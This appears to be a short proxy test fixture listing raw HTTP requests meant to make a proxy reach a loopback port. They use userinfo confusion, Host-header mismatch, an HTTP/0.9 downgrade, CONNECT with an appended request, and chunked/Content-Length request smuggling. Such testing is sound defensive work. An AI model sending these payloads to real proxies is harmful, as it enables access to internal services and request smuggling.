# Writes the target so that the proxy may read another one: user names, headers, a second request, and half a tunnel.
through "GET http://1.1.1.1@127.0.0.1:PORT/ HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"
through "GET http://127.0.0.1:PORT\\@1.1.1.1/ HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n"
through "GET / HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n"
through "GET http://127.0.0.1:PORT HTTP/0.9\r\n\r\n"
through "CONNECT 1.1.1.1@127.0.0.1:PORT HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n"
through "CONNECT 127.0.0.1:PORT HTTP/1.1\r\nHost: 1.1.1.1\r\nContent-Length: 5\r\n\r\nGET / HTTP/1.0\r\n\r\n"
through "POST http://127.0.0.1:PORT/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\nGET http://127.0.0.1:PORT/ HTTP/1.1\r\n\r\n"
